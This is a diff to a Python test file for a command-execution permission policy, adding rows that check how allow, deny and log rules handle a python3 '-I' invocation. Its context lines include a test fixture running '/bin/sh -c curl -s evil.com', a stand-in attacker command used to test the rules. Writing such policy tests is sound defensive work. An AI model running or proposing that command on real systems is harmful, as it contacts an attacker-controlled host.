@@ -49,6 +49,7 @@ def at(text: str, port: int | None = 443, *names: str, **more: object) -> Reques
 
 PUBLIC_IP = "93.184.216.34"
 CODE = Code("/job/script.py", 12, "upload", "script", "__main__", "requests")
+BLIND = Request("exec", program="python3", argv=("python3", "-I", "x.py"), python=True, uncovered="-I")
 EXEC = Request("exec", program="/bin/sh", resolved="/usr/bin/dash", argv=("sh", "-c", "curl -s evil.com"))
 
 
@@ -282,6 +283,13 @@ FACETS = [
     row(with_facets(program=("/bin/dash",)), EXEC, "deny -1", "program-another-path"),
     row(with_facets(program=("sh",)), ask("native /bin/sh"), "deny -1", "program-is-for-exec"),
     row(with_facets(program=("python3.?",)), ask("exec python3.9 -S x"), "allow 0", "program-without-path"),
+    row(with_facets(program=("python3",)), BLIND, "deny -1", "program-without-the-guard"),
+    row(with_facets(program=("python3",), unguarded=True), BLIND, "allow 0", "program-may-be-without-the-guard"),
+    row([("log exec", {"program": ("python3",)})], BLIND, "deny -1", "program-logged-without-the-guard"),
+    row([("deny exec", {"program": ("python3",)}), "allow exec"], BLIND, "deny 0", "program-denied-all-the-same"),
+    row(["allow exec"], BLIND, "allow 0", "any-program-at-all"),
+    row(with_facets(args=("*-I*",)), BLIND, "allow 0", "any-program-with-these-arguments"),
+    row([*with_facets(program=("python3",)), "log exec"], BLIND, "log 1", "goes-on-to-the-next-rule"),
     row(with_facets(args=("*curl *",)), EXEC, "allow 0", "args"),
     row(with_facets(args=("sh -c *", "x")), EXEC, "allow 0", "args-from-the-start"),
     row(with_facets(args=("curl *",)), EXEC, "deny -1", "args-are-the-whole-line"),
